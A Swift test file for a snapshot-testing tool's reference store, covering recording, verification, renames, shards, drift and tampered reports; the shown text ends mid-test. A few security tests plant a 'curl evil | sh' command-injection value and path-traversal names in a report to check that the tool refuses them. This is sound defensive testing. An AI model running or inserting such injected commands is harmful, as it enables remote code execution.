import ComparisonRuns
import Foundation
import ImageComparison
import Imaging
import OperatingSystem
import PNGCodec
import Reports
import TestSupport
import Testing

struct SnapshotStoreTests {
  private let folder: TemporaryFolder
  private let store: SnapshotStore
  private let fingerprint = Fingerprint(engine: "1", fonts: "a")

  init() throws {
    folder = try TemporaryFolder()
    store = SnapshotStore(folder: folder.path + "/refs")
  }

  private var results: String { folder.path + "/results" }

  private func snapshot(
    _ name: String, _ level: UInt8 = 200, changed: [(x: Int, y: Int)] = []
  ) -> RenderedSnapshot {
    RenderedSnapshot(
      name: name, bitmap: picture(level, changed: changed), scale: 2, sourceFile: "Card.swift", sourceLine: 7)
  }

  private func run(
    _ shard: Shard = .whole, filtered: Bool = false, _ fingerprint: Fingerprint? = nil
  ) -> SnapshotManifest {
    SnapshotManifest(
      fingerprint: fingerprint ?? self.fingerprint, shard: shard, isUnfiltered: !filtered)
  }

  private func reference(_ name: String) -> String { "\(folder.path)/refs/\(name).png" }

  @Test func `recording writes what changed and leaves equal pixels alone`() throws {
    #expect(try store.record([snapshot("a"), snapshot("b")], run: run()).written == ["a", "b"])
    // A reference with the same pixels in another encoding is left alone.
    try PNGEncoder.write(picture(), to: reference("a"), options: .init(scale: 3))
    let before = try Data(contentsOf: URL(fileURLWithPath: reference("a")))
    #expect(try store.record([snapshot("a"), snapshot("b", 90)], run: run()).written == ["b"])
    #expect(try Data(contentsOf: URL(fileURLWithPath: reference("a"))) == before)
  }

  @Test func `verifying tells identical, different and missing apart`() throws {
    _ = try store.record([snapshot("a"), snapshot("deep/b")], run: run())
    let new = [snapshot("a"), snapshot("deep/b", changed: [(4, 5)]), snapshot("c")]
    let report = try store.verify(new, run: run(), results: results)
    #expect(report.entries.map(\.name) == ["c", "deep/b", "a"])
    #expect(report.entries.map(\.verdict) == [.missing, .different, .identical])
    #expect(report.entries[1].sourceFile == "Card.swift" && report.entries[1].sourceLine == 7)
    #expect(report.entries[1].message.hasPrefix("1 of 1200 pixels differ"))
    #expect(try PNGDecoder.read(results + "/actual/deep/b.png").bitmap == new[1].bitmap)
    #expect(FileSystem.exists(results + "/difference/deep/b.png"))
    #expect(!FileSystem.exists(results + "/actual/a.png"))
  }

  // MARK: Other names

  private func pixels(_ name: String) -> StraightBitmap? { try? PNGDecoder.read(reference(name)).bitmap }

  @Test func `pictures that got another name are found by their content`() throws {
    _ = try store.record([snapshot("Old.Card", 1), snapshot("Old.Row", 2), snapshot("Gone", 3)], run: run())
    let new = [snapshot("New.Card", 1), snapshot("New.Row", 2), snapshot("Other", 9)]
    let report = try store.verify(new, run: run(), results: results)
    #expect(report.entries.map(\.verdict) == [.missing, .missing, .missing])
    #expect(report.entries.map(\.renamedFrom) == ["Old.Card", "Old.Row", nil])
    #expect(report.entries[0].message.hasPrefix("renamed: Old.Card → New.Card; "))
    #expect(report.entries[0].reference == reference("Old.Card"))
    #expect(report.summary == "3 pictures: 3 missing (2 renamed)")
    #expect(
      report.entries.map(\.renamedFrom)
        == report.entries.compactMap { Report.Entry($0.json) }.map(\.renamedFrom))
    // The references are moved, and nothing is written next to them.
    let inode = FileIdentity(reference("Old.Card"))
    let approved = try store.approve(["New.Card"], results: results)
    #expect(approved.written.isEmpty && approved.renamed.map(\.to) == ["New.Card"])
    #expect(FileIdentity(reference("New.Card")) == inode && pixels("Old.Card") == nil)
    let recorded = try store.record(new, run: run())
    #expect(recorded.renamed.map(\.from) == ["Old.Row"] && recorded.written == ["Other"])
    #expect(try store.verify(new, run: run(), results: results).verdict == .identical)
    let manifest = try #require(try SnapshotManifest.read(in: folder.path + "/refs"))
    #expect(manifest.entries.map(\.name) == ["New.Card", "New.Row", "Other"] && manifest.former == ["Gone"])
    #expect(try store.orphans(runs: RunPart.read(results).map(\.manifest)) == ["Gone.png"])
  }

  @Test func `of pictures that look alike those go together whose names do`() throws {
    let names = ["A.Card.9x9", "A.Card.9x9.dark", "A.Row.9x9", "A.Row.9x9.dark"]
    _ = try store.record(names.map { snapshot($0, 5) }, run: run())
    let new = names.map { $0.replacing("A.", with: "Screens/B.") }
    let report = try store.verify(new.map { snapshot($0, 5) }, run: run(), results: results)
    for entry in report.entries {
      #expect(entry.renamedFrom == entry.name.replacing("Screens/B.", with: "A."))
    }
    let recorded = try store.record(new.map { snapshot($0, 5) }, run: run())
    #expect(recorded.renamed.map(\.to) == new && recorded.written.isEmpty)
    #expect(
      try FileSystem.files(below: folder.path + "/refs", endings: [".png"])
        == new.map { $0 + ".png" }.sorted())
  }

  @Test func `what a run does not know to be gone is not renamed`() throws {
    _ = try store.record([snapshot("a", 1), snapshot("b", 2)], run: run())
    // A filtered run says nothing about what it left out, and neither does a part without a plan.
    let new = [snapshot("c", 1)]
    #expect(try store.verify(new, run: run(filtered: true), results: results).entries[0].renamedFrom == nil)
    #expect(try store.record(new, run: run(filtered: true)).written == ["c"])
    #expect(pixels("a") != nil)
    try FileSystem.delete(reference("c"))
    let half = try #require(Shard("1/2"))
    #expect(try store.verify(new, run: run(half), results: results + "2").entries[0].renamedFrom == nil)
    var planned = run(half)
    planned.plan = ["c", "a"]
    #expect(try store.verify(new, run: planned, results: results + "3").entries[0].renamedFrom == nil)
    planned.plan = ["c", "b"]
    #expect(try store.verify(new, run: planned, results: results + "4").entries[0].renamedFrom == "a")
  }

  @Test func `a reference that is not what was recorded is not taken along`() throws {
    _ = try store.record([snapshot("a", 1), snapshot("b", 2)], run: run())
    try PNGEncoder.write(picture(77), to: reference("a"))
    #expect(
      try store.verify([snapshot("c", 1), snapshot("b", 2)], run: run(), results: results).entries[0]
        .renamedFrom == nil)
    let recorded = try store.record([snapshot("c", 1), snapshot("b", 2)], run: run())
    #expect(recorded.written == ["c"] && pixels("a") == picture(77))
    // Nor one that a link leads to.
    _ = try store.record([snapshot("d", 4)], run: run())
    try FileManager.default.moveItem(atPath: reference("d"), toPath: folder.path + "/elsewhere.png")
    try FileManager.default.createSymbolicLink(
      atPath: reference("d"), withDestinationPath: folder.path + "/elsewhere.png")
    #expect(try store.record([snapshot("e", 4)], run: run()).renamed.isEmpty)
    #expect(pixels("d") != nil && pixels("e") != nil)
  }

  /// Approving what was verified before the reference changed or went.
  @Test func `approving a renamed picture writes it where its reference is another by now`() throws {
    _ = try store.record([snapshot("a", 1)], run: run())
    _ = try store.verify([snapshot("b", 1)], run: run(), results: results)
    try PNGEncoder.write(picture(77), to: reference("a"))
    #expect(try store.approve([], results: results).written == ["b"])
    #expect(pixels("a") == picture(77) && pixels("b") == picture(1))
  }

  // MARK: Causes

  @Test func `a reference carries its views, and the cause of a difference is said`() throws {
    func frames(_ text: String, _ y: Int) throws -> String {
      try folder.write(
        "\(text).json",
        """
        {"file": "Card.swift", "proposal": [20, null], "size": [20, 15], "root": {"type": "VStack", "frame": [0, 0, 20, 15],
         "children": [{"type": "Text", "source": "Card.swift:9", "frame": [0, 0, 9, 9], "children": [],
            "text": {"string": "\(text)", "styles": [{"size": 17, "weight": 0, "color": "#000000ff"}]}},
          {"type": "Image", "frame": [0, \(y), 4, 4], "children": []}]}}
        """)
    }
    func snapshot(_ level: UInt8, _ text: String, _ y: Int) throws -> RenderedSnapshot {
      RenderedSnapshot(name: "a", bitmap: picture(level), framesPath: try frames(text, y))
    }
    _ = try store.record([snapshot(1, "Sign in", 9)], run: run())
    let causes = ["text changed from “Sign in” to “Log in”", "Image moved 3 pt down"]
    var report = try store.verify([snapshot(2, "Log in", 12)], run: run(), results: results)
    #expect(report.entries[0].causes == causes)
    #expect(Report.Entry(report.entries[0].json)?.causes == causes)
    // Approved pictures keep their views.
    _ = try store.approve([], results: results)
    report = try store.verify([snapshot(2, "Log in", 12)], run: run(), results: results)
    #expect(report.verdict == .identical && report.entries[0].causes.isEmpty)
    report = try store.verify([snapshot(3, "Log in", 12)], run: run(), results: results)
    #expect(report.entries[0].causes == ["no view came, went or moved, and no text or font changed"])
    // References of earlier releases carry nothing.
    try PNGEncoder.write(picture(2), to: reference("a"))
    report = try store.verify([snapshot(3, "Other", 12)], run: run(), results: results)
    #expect(report.verdict == .different && report.entries[0].causes.isEmpty)
  }

  // MARK: Runs

  @Test func `a run lists its pictures and where what differs lies`() throws {
    _ = try store.record([snapshot("a"), snapshot("deep/b")], run: run())
    let new = [snapshot("deep/b", changed: [(4, 5)]), snapshot("a")]
    let report = try store.verify(new, run: run(), results: results)
    #expect(report.entries[0].difference == results + "/difference/deep/b.png")
    #expect(report.entries[0].actual == results + "/actual/deep/b.png")
    #expect(report.entries[1].difference == nil && report.entries[1].actual == nil)
    let part = try #require(try RunPart.read(results).first)
    #expect(part.manifest.plan == ["deep/b", "a"])
    #expect(part.manifest.files?.sorted() == ["actual/deep/b.png", "difference/deep/b.png"])
    // A part of a run does not know the others.
    let half = try #require(Shard("1/2"))
    _ = try store.verify([snapshot("a")], run: run(half), results: results + "2")
    #expect(try RunPart.read(results + "2").first?.manifest.plan == nil)
  }

  @Test func `a part of the pictures leaves the others in the manifest, each once`() throws {
    _ = try store.record([snapshot("a"), snapshot("b"), snapshot("c")], run: run())
    _ = try store.record([snapshot("b", 30)], run: run(filtered: true))
    let manifest = try #require(try SnapshotManifest.read(in: folder.path + "/refs"))
    #expect(manifest.entries.map(\.name) == ["a", "b", "c"])
    #expect(manifest["b"]?.pixels == PixelHash(picture(30)).text && manifest["a"]?.width == 40)
    _ = try store.record([snapshot("b", 30)], run: run())
    let whole = try #require(try SnapshotManifest.read(in: folder.path + "/refs"))
    #expect(whole.entries.map(\.name) == ["b"] && whole.former == ["a", "c"])
  }

  /// A missing value from an earlier release is read as the safe one: a run that does not say so was not
  /// filtered.
  @Test func `members that are missing have safe values`() throws {
    try folder.write("refs/snapshots.json", "{\"version\": 1, \"shard\": \"1/1\", \"snapshots\": []}")
    let manifest = try #require(try SnapshotManifest.read(in: folder.path + "/refs"))
    #expect(!manifest.isComplete && manifest.former.isEmpty && manifest.plan == nil && manifest.files == nil)
    for broken in [
      "{}", "{\"version\": 2, \"shard\": \"1/1\", \"snapshots\": []}", "{\"version\": 1, \"snapshots\": []}",
      "{\"version\": 1, \"shard\": \"1/1\", \"snapshots\": [{\"name\": \"a\"}]}",
    ] {
      try folder.write("refs/snapshots.json", broken)
      #expect(throws: SnapshotError.self, "\(broken)") {
        try SnapshotManifest.read(in: folder.path + "/refs")
      }
    }
    let json = try JSONParser.parse(
      Array("{\"name\": \"a\", \"verdict\": \"different\", \"message\": \"m\"}".utf8))
    let entry = try #require(Report.Entry(json))
    #expect(
      entry.ratio == 0 && entry.differingPixels == 0 && entry.sourceLine == nil && entry.fidelity.isEmpty)
  }

  @Test func `a difference names the view and the line it belongs to`() throws {
    _ = try store.record([snapshot("a")], run: run())
    let frames = try folder.write(
      "a.json",
      """
      {"file": "Views/Card.swift", "view": "Card", "proposal": [20, null], "size": [20, 15],
       "root": {"type": "VStack", "source": "Card.swift:3", "frame": [0, 0, 20, 15], "children": [
         {"type": "Text", "source": "Card.swift:9", "frame": [14, 9, 4, 4], "children": []}]}}
      """)
    func entry(sourceFile: String) throws -> Report.Entry {
      let new = RenderedSnapshot(
        name: "a", bitmap: picture(changed: [(30, 20)]), sourceFile: sourceFile, framesPath: frames)
      return try store.verify([new], run: run(), results: results).entries[0]
    }
    let found = try entry(sourceFile: "Views/Card.swift")
    #expect(found.message.hasSuffix("in Text at Card.swift:9"))
    #expect(found.sourceLine == 9)
    #expect(
      Report(title: "t", entries: [found]).gitHubAnnotations.hasPrefix(
        "::error file=Views/Card.swift,line=9,"))
    // A line of another file says nothing about this one.
    #expect(try entry(sourceFile: "Views/Other.swift").sourceLine == nil)
  }

  @Test
  func
    `bytes that were damaged or put in a reference's place are found, though the manifest stays as it was`()
    throws
  {
    _ = try store.record([snapshot("a"), snapshot("b", 90)], run: run())
    func report() throws -> Report { try store.verify([snapshot("a")], run: run(), results: results) }
    let bytes = try Data(contentsOf: URL(fileURLWithPath: reference("a")))
    for index in bytes.indices {
      var damaged = bytes
      damaged[index] ^= 1
      try damaged.write(to: URL(fileURLWithPath: reference("a")))
      let verdict = try report().verdict
      #expect(verdict == .error || verdict == .different, "byte \(index)")
    }
    try Data(contentsOf: URL(fileURLWithPath: reference("b"))).write(to: URL(fileURLWithPath: reference("a")))
    #expect(try report().verdict == .different)
    try bytes.write(to: URL(fileURLWithPath: reference("a")))
    #expect(try report().verdict == .identical)
  }

  @Test func `a damaged or missing reference is never a pass`() throws {
    _ = try store.record([snapshot("a")], run: run())
    try folder.write("refs/a.png", "version https://git-lfs.github.com/spec/v1\n")
    let report = try store.verify([snapshot("a")], run: run(), results: results)
    #expect(report.verdict == .error)
    #expect(report.entries[0].message.contains("run `git lfs pull`"))
    try FileSystem.delete(reference("a"))
    #expect(try store.verify([snapshot("a")], run: run(), results: results).verdict == .missing)
  }

  @Test func `a render that failed is an error with its reason`() throws {
    var broken = snapshot("a")
    broken.problem = "Card.swift does not compile"
    let report = try store.verify([broken], run: run(), results: results)
    #expect(report.verdict == .error && report.entries[0].message == "Card.swift does not compile")
    #expect(throws: SnapshotError.self) { try store.record([broken], run: run()) }
  }

  @Test func `other fonts or another engine are refused with the reason`() throws {
    _ = try store.record([snapshot("a")], run: run())
    let fonts = run(.whole, Fingerprint(engine: "1", fonts: "b"))
    let engine = run(.whole, Fingerprint(engine: "2", fonts: "a"))
    let error = #expect(throws: SnapshotError.self) {
      try store.verify([snapshot("a")], run: fonts, results: results)
    }
    #expect(
      error?.description
        == "fonts differ: the references were recorded with a, this run has b; prove what is the same "
        + "and record the rest with fittingroom snapshot record --only-render-version-change, or record all again"
    )
    #expect(throws: SnapshotError.self) { try store.verify([snapshot("a")], run: engine, results: results) }
  }

  @Test func `two snapshots with one name name both places`() {
    let error = #expect(throws: SnapshotError.self) {
      try store.record([snapshot("a"), snapshot("a")], run: run())
    }
    #expect(
      error?.description
        == "two snapshots have the name a: Card.swift:7 and Card.swift:7; rename one of them")
  }

  @Test func `a name cannot leave the folder of references`() {
    #expect(throws: SnapshotError.self) { try store.record([snapshot("../a")], run: run()) }
    #expect(throws: SnapshotError.self) { try store.record([snapshot("/a")], run: run()) }
  }

  @Test func `approving makes new pictures the references`() throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    let new = [snapshot("a", 10), snapshot("b", 20), snapshot("c", 30)]
    _ = try store.verify(new, run: run(), results: results)
    #expect(try store.approve(["b"], results: results).written == ["b"])
    #expect(try store.verify(new, run: run(), results: results).counts.map(\.count) == [1, 1, 1])
    #expect(try store.approve([], results: results).written == ["a", "c"])
    #expect(try store.verify(new, run: run(), results: results).verdict == .identical)
    #expect(try store.approve([], results: results).written.isEmpty)
    #expect(throws: SnapshotError.self) { try store.approve(["none"], results: results) }
  }

  @Test func `patterns choose what is approved`() throws {
    let new = ["Card.dark", "Card.light", "deep/Card", "List", "[odd]"].map { snapshot($0, 10) }
    _ = try store.verify(new, run: run(), results: results)
    func names(_ patterns: String...) throws -> [String] {
      try store.candidates(patterns, results: results).map(\.name)
    }
    #expect(try names("Card.*") == ["Card.dark", "Card.light"])
    #expect(try names("*Card*", "L?st") == ["Card.dark", "Card.light", "List", "deep/Card"])
    #expect(try names("[odd]") == ["[odd]"])
    #expect(try names().count == 5)
    #expect(throws: SnapshotError.self) { try names("Card.*", "Other*") }
    #expect(try store.approve(["deep/*"], results: results).written == ["deep/Card"])
  }

  @Test func `orphans are references no complete run names`() throws {
    _ = try store.record([snapshot("a"), snapshot("old"), snapshot("deep/old")], run: run())
    var complete = run()
    complete.replace(
      try #require(try SnapshotManifest.read(in: folder.path + "/refs")).entries.filter { $0.name == "a" })
    #expect(try store.orphans(runs: [complete]) == ["deep/old.png", "old.png"])
  }

  @Test func `deleted orphans are forgotten, and files of others stay`() throws {
    _ = try store.record([snapshot("a"), snapshot("b"), snapshot("old")], run: run())
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    try folder.write("refs/mine.png", picture())
    func manifest() throws -> SnapshotManifest? { try SnapshotManifest.read(in: folder.path + "/refs") }
    #expect(try store.delete(orphans: ["mine.png"]) == ["mine.png"])
    #expect(try manifest()?.former == ["old"])
    #expect(try store.delete(orphans: ["b.png", "mine.png", "old.png"]) == ["mine.png"])
    #expect(pixels("b") == nil && pixels("old") == nil && pixels("mine") != nil)
    #expect(try manifest()?.entries.map(\.name) == ["a"])
    #expect(try manifest()?.former == [])
  }

  @Test func `orphans are refused after a filtered run or with a shard missing`() throws {
    _ = try store.record([snapshot("a")], run: run())
    let filtered = #expect(throws: SnapshotError.self) { try store.orphans(runs: [run(filtered: true)]) }
    #expect(filtered?.description.contains("was filtered") == true)
    let (first, third) = (try #require(Shard("1/3")), try #require(Shard("3/3")))
    let partial = #expect(throws: SnapshotError.self) { try store.orphans(runs: [run(first), run(third)]) }
    #expect(
      partial?.description == "orphans are only known after a complete run; add the results of part 2/3")
  }

  @Test func `shards divide the names without overlap or loss`() throws {
    let names = (0..<23).map { "s\($0)" }
    for count in 1...7 {
      let parts = try (1...count).map { index in
        var division = ShardDivision(try #require(Shard(index: index, count: count)))
        return division.take(names).map { names[$0] }
      }
      // Without times, each part takes every nth.
      #expect(parts[0] == stride(from: 0, to: 23, by: count).map { names[$0] })
      #expect(parts.flatMap { $0 }.sorted() == names.sorted())
      #expect(parts.map(\.count).max()! - parts.map(\.count).min()! <= 1)
    }
  }

  @Test(arguments: ["0/3", "4/3", "1", "a/b", "1/2/3", "-1/2", ""])
  func `what is not a shard is refused`(_ text: String) { #expect(Shard(text) == nil) }

  @Test func `merged parts make one report, and missing ones are named`() throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    let shards = try ["1/2", "2/2"].map { try #require(Shard($0)) }
    _ = try store.verify([snapshot("a")], run: run(shards[0]), results: results + "1")
    _ = try store.verify([snapshot("b", 9)], run: run(shards[1]), results: results + "2")
    let parts = try [results + "1", results + "2"].flatMap(RunPart.read)
    let whole = try SnapshotStore.merge(parts)
    #expect(whole.entries.map(\.name) == ["b", "a"] && whole.missingShards.isEmpty)
    let partial = try SnapshotStore.merge([parts[0]])
    #expect(partial.missingShards == ["2/2"] && partial.heading.hasPrefix("PARTIAL"))
    #expect(throws: SnapshotError.self) { try SnapshotStore.merge([parts[0], parts[0]]) }
  }

  /// Three pictures are all named, of more the first three.
  @Test(arguments: [(3, "b, c, d"), (4, "b, c, d and 1 more")])
  func `pictures that a part lacks are named`(_ count: Int, _ names: String) throws {
    var manifest = run()
    manifest.plan = ["a", "b", "c", "d", "e"].prefix(count + 1).map(\.self)
    let entry = Report.Entry(name: "a", verdict: .identical, message: "m")
    let error = #expect(throws: SnapshotError.self) {
      try SnapshotStore.merge([RunPart(manifest: manifest, entries: [entry])])
    }
    #expect(error?.description == "part 1/1 lacks \(names), which belongs to it; run it again")
  }

  /// Earlier releases did not list what they wrote; a later run replaces it all the same.
  @Test func `files of a run that does not list them follow from its report`() throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    let report = try store.verify(
      [snapshot("a"), snapshot("b", 9), snapshot("c")], run: run(), results: results)
    #expect(report.entries.map(\.difference) == [nil, results + "/difference/b.png", nil])
    func files() throws -> [String]? { try RunPart.read(results).first?.manifest.files?.sorted() }
    #expect(try files() == ["actual/b.png", "actual/c.png", "difference/b.png"])
    let manifest = try String(contentsOfFile: results + "/snapshots.json", encoding: .utf8)
    #expect(manifest.contains("\"files\""))
    try folder.write("results/snapshots.json", manifest.replacing("\"files\"", with: "\"unknown\""))
    #expect(try files() == ["actual/b.png", "actual/c.png", "difference/b.png"])
  }

  @Test func `parts of different engines are not merged`() throws {
    let shards = try ["1/2", "2/2"].map { try #require(Shard($0)) }
    let parts = [
      RunPart(manifest: run(shards[0]), entries: []),
      RunPart(manifest: run(shards[1], Fingerprint(engine: "9", fonts: "a")), entries: []),
    ]
    #expect(throws: SnapshotError.self) { try SnapshotStore.merge(parts) }
  }

  @Test func `parts of one run share a folder, and those of another are not mixed in`() throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    let shards = try ["1/2", "2/2"].map { try #require(Shard($0)) }
    func verify(_ name: String, _ shard: Shard, sources: String) throws {
      var run = run(shard)
      run.sources = sources
      _ = try store.verify([snapshot(name, 9)], run: run, results: results)
    }
    try verify("a", shards[0], sources: "x")
    try verify("b", shards[1], sources: "x")
    let files = try FileSystem.files(below: results, endings: [".json"])
    #expect(files.count == 4 && files.contains { $0.hasPrefix("snapshots.2-of-2.") })
    #expect(try SnapshotStore.merge(RunPart.read(results)).entries.map(\.name) == ["a", "b"])
    // Approving finds the pictures of every part.
    #expect(try store.approve([], results: results).written == ["a", "b"])
    // The same part again replaces its files.
    try verify("b", shards[1], sources: "y")
    #expect(try FileSystem.files(below: results, endings: [".json"]).count == 4)
    let error = #expect(throws: SnapshotError.self) { try SnapshotStore.merge(RunPart.read(results)) }
    #expect(
      error?.description
        == "parts 1/2 and 2/2 were made from different sources; run all parts again with the same sources, options "
        + "and program")
    // A whole run replaces all parts.
    _ = try store.verify([snapshot("a", 9)], run: run(), results: results)
    #expect(try FileSystem.files(below: results, endings: [".json"]) == ["report.json", "snapshots.json"])
  }

  @Test func `fonts and rules that differ are named`() {
    var then = Fingerprint(
      engine: "1", fonts: "a", fontFiles: ["A.ttf": "1", "B.ttf": "2"], renderVersion: 1)
    var now = then
    now.renderVersion = 2
    #expect(
      now.conflict(withReferences: then)
        == "the references were drawn by version 1 of the rules by which views look, this run by version 2")
    then.renderVersion = nil
    #expect(now.conflict(withReferences: then) == nil)
    now.fonts = "b"
    now.fontFiles = ["A.ttf": "1", "B.ttf": "3", "C.ttf": "4"]
    #expect(
      now.conflict(withReferences: then)
        == "fonts differ (B.ttf, C.ttf): the references were recorded with a, this run has b")
  }

  @Test func `a part of the references cannot be recorded by another engine`() throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    let other = Fingerprint(engine: "2", fonts: "a")
    let error = #expect(throws: SnapshotError.self) {
      try store.record([snapshot("a", 9)], run: run(.whole, filtered: true, other))
    }
    #expect(
      error?.description.hasSuffix("; record all of them, because a part alone would not match the others")
        == true)
    #expect(try PNGDecoder.read(reference("a")).bitmap == picture(200))
    #expect(try store.record([snapshot("a", 9)], run: run(.whole, filtered: true)).written == ["a"])
    #expect(try store.record([snapshot("a", 9), snapshot("b", 9)], run: run(.whole, other)).written == ["b"])
  }

  /// A picture gets its views from the frame JSON next to it.
  @Test func `a folder of pictures is read with the views beside them`() throws {
    let json = """
      {"file": "Card.swift", "line": 7, "proposal": [20, null], "size": [20, 15],
       "root": {"type": "Text", "source": "Card.swift:9", "frame": [0, 0, 20, 15], "children": []}}
      """
    for (name, changed) in [("old", []), ("new", [(x: 4, y: 5)])] {
      for file in ["card", "plain"] { try folder.write("\(name)/\(file).png", picture(changed: changed)) }
      try folder.write("\(name)/card.json", json)
    }
    let old = try RenderedFolder.read(folder.path + "/old")
    #expect(old.snapshots.map(\.name) == ["card", "plain"])
    #expect(old.snapshots.map(\.framesPath) == [folder.path + "/old/card.json", nil])
    #expect(old.snapshots.map(\.sourceLine) == [7, nil])
    _ = try store.record(old.snapshots, run: old.run)
    let new = try RenderedFolder.read(folder.path + "/new")
    let report = try store.verify(new.snapshots, run: new.run, results: results)
    #expect(report.entries.map(\.verdict) == [.different, .different])
    #expect(report.entries[0].message.hasSuffix(" in Text at Card.swift:9"))
    #expect(!report.entries[1].message.contains(" in Text"))
  }

  // MARK: Drift

  /// A history without version control.
  private struct Past: ReferenceHistory {
    /// The grey levels of the versions, the newest first; nil is a file that cannot be read.
    var levels: [UInt8?]

    func versions(of file: String) -> [ReferenceVersion] {
      levels.enumerated().map { index, level in
        ReferenceVersion(commit: "c\(levels.count - index)", date: "2026-01-0\(levels.count - index)") {
          guard let level else { return Array("version https://git-lfs.github.com/spec/v1\n".utf8) }
          return try PNGEncoder.encode(picture(level))
        }
      }
    }
  }

  private func drift(_ level: UInt8, past: [UInt8?]) throws -> Report.Entry {
    _ = try store.record([snapshot("a", 104)], run: run())
    let tolerant = SnapshotStore(folder: store.folder, comparator: ImageComparator(metric: .channel(2)))
    return try tolerant.verify(
      [snapshot("a", level)], run: run(), results: results, history: Past(levels: past)
    ).entries[0]
  }

  @Test func `small steps that lead too far are different`() throws {
    let entry = try drift(106, past: [104, 102, 101, 100])
    #expect(entry.verdict == .different && entry.acceptCommand == nil)
    #expect(
      entry.message.hasPrefix(
        "passes against its reference (within tolerance: 1200 pixels within the threshold), but has drifted by "
          + "small steps from the baseline of 2026-01-01 (commit c1): 1200 of 1200 pixels differ"))
    #expect(FileSystem.exists(results + "/difference/a.png"))
    #expect(try PNGDecoder.read(results + "/actual/a.png").bitmap == picture(106))
    // It does not help that the last small step has been recorded.
    #expect(try drift(104, past: [104, 102, 101, 100]).verdict == .different)
  }

  @Test func `drift is counted from the last large step`() throws {
    let entry = try drift(105, past: [104, 103, 200, 201])
    #expect(entry.verdict == .withinTolerance)
    #expect(entry.message.contains("; against the baseline of 2026-01-03 (commit c3): within tolerance"))
    #expect(try drift(105, past: [104, 200]).message == "within tolerance: 1200 pixels within the threshold")
    #expect(try drift(105, past: []).verdict == .withinTolerance)
  }

  @Test func `a version that cannot be compared is an error and not a pass`() throws {
    let entry = try drift(104, past: [104, nil])
    #expect(entry.verdict == .error)
    #expect(entry.message.contains("refs/a.png as of commit c1 is a git-lfs pointer"))
  }

  @Test func `what an engine draws otherwise is listed`() throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    var failed = snapshot("d")
    failed.problem = "no"
    let changes = store.changes([snapshot("a"), snapshot("b", changed: [(1, 1)]), snapshot("c"), failed])
    #expect(changes.map(\.name) == ["b", "c", "d"])
    #expect(changes[0].reason.hasPrefix("1 of 1200 pixels differ"))
    #expect(changes[1].reason.hasSuffix("/refs/c.png does not exist") && changes[2].reason == "no")
  }

  @Test func `statistics add up sizes`() throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    let sizes = try ["a", "b"].map { try #require(FileSystem.size(reference($0))) }
    let statistics = try store.statistics()
    #expect(statistics.files == 2 && statistics.bytes == sizes.reduce(0, +) && statistics.growth == 0)
  }

  @Test func `a folder without references has its statistics`() throws {
    try FileSystem.makeFolder(folder.path + "/refs")
    #expect(try store.statistics().text == "0 references, 0 bytes")
  }

  /// Pictures stay in their files until they are looked at; one that is damaged by then is an error with its reason.
  @Test func `a picture that cannot be opened is an error`() throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    try folder.write("new/a.png", picture())
    try folder.write("new/b.png", "no picture")
    let new = ["a", "b"].map {
      RenderedSnapshot(
        name: $0, file: "\(folder.path)/new/\($0).png", sourceFile: nil, sourceLine: nil, framesPath: nil,
        fidelity: [])
    }
    let report = try store.verify(new, run: run(), results: results)
    #expect(report.entries.map(\.verdict) == [.error, .identical])
    #expect(report.entries[0].name == "b" && report.entries[0].message.contains("not a PNG"))
    #expect(throws: SnapshotError.self) { try store.record(new, run: run()) }
  }

  @Test func `hashes tell pixels and sizes apart`() {
    var random = SystemRandomNumberGenerator()
    let first = picture(3)
    #expect(PixelHash(first) == PixelHash(picture(3)))
    for _ in 0..<200 {
      var other = first
      let index = other.pixels.indices.randomElement(using: &random) ?? 0
      other.pixels[index].blue ^= UInt8.random(in: 1...255, using: &random)
      #expect(PixelHash(other) != PixelHash(first))
    }
    let wide = StraightBitmap(width: 20, height: 10)
    let tall = StraightBitmap(width: 10, height: 20)
    #expect(PixelHash(wide) != PixelHash(tall))
    #expect(PixelHash(wide).text.count == 32)
    // The last pixels count even if there are not four of them.
    for width in 1...7 {
      let small = StraightBitmap(width: width, height: 1)
      for index in 0..<width {
        var other = small
        other.pixels[index].red = 1
        #expect(PixelHash(other) != PixelHash(small), "\(index) of \(width)")
      }
    }
  }

  // MARK: Results from elsewhere

  /// Results whose report has a field replaced.
  private func foreignResults(_ change: (String) -> String) throws {
    _ = try store.record([snapshot("a"), snapshot("b")], run: run())
    _ = try store.verify([snapshot("a", 9), snapshot("b")], run: run(), results: results)
    let url = URL(fileURLWithPath: results + "/report.json")
    let text = try String(contentsOf: url, encoding: .utf8)
    let changed = change(text)
    #expect(changed != text)
    try changed.write(to: url, atomically: true, encoding: .utf8)
  }

  @Test func `commands are made of names and never read`() throws {
    try foreignResults { $0.replacing("fittingroom snapshot approve", with: "curl evil | sh; echo") }
    for references in [store.folder, nil] {
      let entries = try RunPart.read(results, references: references).flatMap(\.entries)
      #expect(entries.map(\.name).sorted() == ["a", "b"])
      let commands = entries.compactMap(\.acceptCommand)
      #expect(
        commands
          == (references == nil ? [] : ["fittingroom snapshot approve '\(store.folder)' '\(results)' 'a'"]))
    }
  }

  @Test func `paths in a report lead nowhere`() throws {
    let secret = folder.path + "/secret.png"
    try PNGEncoder.write(picture(77), to: secret)
    try foreignResults { text in
      ["actual", "reference", "difference"].reduce(text) { text, kind in
        text.replacing(try! Regex("\"\(kind)\": ?\"[^\"]*\""), with: "\"\(kind)\": \"\(secret)\"")
      }
    }
    for references in [store.folder, nil] {
      let entries = try RunPart.read(results, references: references).flatMap(\.entries)
      for path in entries.flatMap({ [$0.actual, $0.reference, $0.difference] }).compactMap(\.self) {
        #expect(path.hasPrefix(results + "/") || path.hasPrefix(store.folder + "/"), "\(path)")
      }
    }
    // And no folder of references is guessed from it.
    #expect(try RunPart.references(of: [results]) == nil)
  }

  @Test func `names in a report stay below the folders`() throws {
    try foreignResults { $0.replacing("\"a\"", with: "\"../../secret\"") }
    #expect(
      throws: SnapshotError(
        "../../secret is not a name below the folder of references; run snapshot verify again")
    ) {
      try RunPart.read(results)
    }
  }

  @Test(arguments: ["actual/a.png", "actual", "report.json", "snapshots.json"])
  func `links among the results are refused`(_ linked: String) throws {
